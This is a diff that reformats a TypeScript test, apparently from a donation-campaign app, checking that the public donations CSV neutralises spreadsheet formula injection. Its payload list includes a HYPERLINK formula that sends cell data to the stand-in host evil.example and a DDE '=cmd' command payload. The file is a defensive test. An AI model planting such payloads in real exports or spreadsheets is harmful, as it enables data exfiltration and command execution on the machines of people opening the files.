@@ -10,24 +10,22 @@ const t = useWorldApp();
 let campaignId = 0;
 
 // A donor chooses the name and message recorded with a gift, which the public statement publishes.
-const PAYLOADS = [
-  'ung ho;=HYPERLINK("http://evil.example/?"&A1,"bam vao day")',
-  '=cmd|\' /C calc\'!A0',
-  ' =1+1',
-  '\t=1+1',
-  '＝SUM(1,2)',
-  '@SUM(1+1)',
-  '+84 912 345 678',
-  '-2+3',
-];
+const PAYLOADS = ['ung ho;=HYPERLINK("http://evil.example/?"&A1,"bam vao day")', "=cmd|' /C calc'!A0", ' =1+1', '\t=1+1', '＝SUM(1,2)', '@SUM(1+1)', '+84 912 345 678', '-2+3'];
 
 beforeAll(async () => {
   const c = await makeStatementCampaign(t.db, t.w.A, { name: 'Đợt thử CSV' });
   campaignId = c.campaignId;
   const acct = await sessionAs(t.db, 'fund_accountant', t.w.A);
   for (const [i, m] of PAYLOADS.entries()) {
-    await recordDonation({ db: t.db, user: acct.user }, { campaignId, receivedOn: '2024-09-15', amount: (i + 1) * 1000, donorKind: 'individual', accountId: c.vietin,
-      donorName: m, memo: m } as Parameters<typeof recordDonation>[1]);
+    await recordDonation({ db: t.db, user: acct.user }, {
+      campaignId,
+      receivedOn: '2024-09-15',
+      amount: (i + 1) * 1000,
+      donorKind: 'individual',
+      accountId: c.vietin,
+      donorName: m,
+      memo: m,
+    } as Parameters<typeof recordDonation>[1]);
   }
   invalidatePublicCache();
 });
@@ -40,9 +38,16 @@ function cellsOf(line: string, sep: string): string[] {
   for (let i = 0; i < line.length; i++) {
     const ch = line[i];
     if (quoted) {
-      if (ch === '"' && line[i + 1] === '"') { cur += '"'; i++; } else if (ch === '"') quoted = false; else cur += ch;
+      if (ch === '"' && line[i + 1] === '"') {
+        cur += '"';
+        i++;
+      } else if (ch === '"') quoted = false;
+      else cur += ch;
     } else if (ch === '"') quoted = true;
-    else if (ch === sep) { out.push(cur); cur = ''; } else cur += ch;
+    else if (ch === sep) {
+      out.push(cur);
+      cur = '';
+    } else cur += ch;
   }
   out.push(cur);
   return out;
@@ -53,7 +58,11 @@ describe('CSV formula neutralisation', () => {
   it('no cell of the public statement CSV starts a formula, whether the spreadsheet splits on "," or ";"', async () => {
     const res = await t.app.inject({ method: 'GET', url: `/api/public/campaigns/${campaignId}/donations.csv` });
     expect(res.statusCode).toBe(200);
-    const lines = res.body.replace(/^\ufeff/, '').trim().split('\r\n').slice(1);
+    const lines = res.body
+      .replace(/^\ufeff/, '')
+      .trim()
+      .split('\r\n')
+      .slice(1);
     expect(lines).toHaveLength(PAYLOADS.length);
     for (const sep of [',', ';']) {
       for (const line of lines) for (const cell of cellsOf(line, sep)) expect(runsAsFormula(cell), `${sep} ${line}`).toBe(false);
